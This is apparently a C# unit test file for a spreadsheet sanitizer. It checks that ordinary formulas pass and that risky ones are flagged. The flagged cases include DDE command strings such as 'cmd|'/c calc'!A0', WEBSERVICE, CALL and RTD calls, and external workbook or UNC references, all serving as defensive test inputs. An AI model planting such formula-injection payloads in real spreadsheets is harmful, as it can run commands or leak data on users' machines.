using Airlock.Sanitizers.Contract;
using Airlock.Sanitizers.OpenXml.Formulas;
using Airlock.Sanitizers.OpenXml.Rebuilding;

namespace Airlock.Tests.Sanitizers.OpenXml;

public sealed class FormulaRulesTests
{
    [Theory]
    [InlineData("SUM(A1:B2)+IF(A1>0,\"|[1]x!\",'シート 1'!B2)")]
    [InlineData("_xlfn.XLOOKUP(A1,表1[列],表1[[#This Row],[1]])")]
    [InlineData("_xlfn._xlws.FILTER(A1:A9,B1:B9=1)")]
    [InlineData("_xlfn.LET(_xlpm.x,1,_xlpm.x+1)")]
    [InlineData("HYPERLINK(\"#Sheet1!A1\",\"戻る\")")]
    [InlineData("HYPERLINK(\"https://hospital.invalid/\")")]
    [InlineData("A1:B2 (C1:D2)")]
    [InlineData("#REF!+合計")]
    public void Formula_that_computes_from_the_workbook_stays(string formula) => Assert.Null(FormulaRules.Fault(formula));

    [Theory]
    [InlineData("cmd|'/c calc'!A0", FindingKind.DdeOrFieldCommand)]
    [InlineData("'cmd'|'/c calc'!A0", FindingKind.DdeOrFieldCommand)]
    [InlineData("1+ cmd |'/c calc'!A0", FindingKind.DdeOrFieldCommand)]
    [InlineData("webservice(\"http://192.0.2.1\")", FindingKind.FormulaInjection)]
    [InlineData("_xlfn.WEBSERVICE (A1)", FindingKind.FormulaInjection)]
    [InlineData("_xll.AddIn(1)", FindingKind.FormulaInjection)]
    [InlineData("_xlfn._xlws.PY(1,0)", FindingKind.FormulaInjection)]
    [InlineData("IF(TRUE,CALL(\"x\",\"y\",\"z\"),0)", FindingKind.FormulaInjection)]
    [InlineData("RTD(\"x\",,\"y\")", FindingKind.FormulaInjection)]
    [InlineData("[1]Sheet1!A1", FindingKind.ExternalReference)]
    [InlineData("[1]!名前", FindingKind.ExternalReference)]
    [InlineData("'C:\\dir\\[Book.xlsx]Sheet1'!A1", FindingKind.ExternalReference)]
    [InlineData("'\\\\192.0.2.1\\x\\[b.xlsx]S'!A1", FindingKind.ExternalReference)]
    [InlineData("HYPERLINK(\"file:///x\")", FindingKind.ExternalReference)]
    [InlineData("HYPERLINK(\"https://a.invalid\"&A1)", FindingKind.ExternalReference)]
    public void Formula_that_reaches_outside_is_told(string formula, FindingKind kind) => Assert.Equal(kind, FormulaRules.Fault(formula)?.Kind);

    [Fact]
    public void Names_and_sheets_that_went_are_reaching_outside_too()
    {
        var workbook = new WorkbookFacts { DroppedNames = { ["外"] = FormulaFault.OtherFile }, DroppedSheets = { ["Macro 1"] = FormulaFault.MacroSheet } };

        Assert.NotNull(FormulaRules.Fault("外+1", workbook));
        Assert.NotNull(FormulaRules.Fault("'Macro 1'!A1", workbook));
        Assert.Null(FormulaRules.Fault("外科+1", workbook));
    }
}
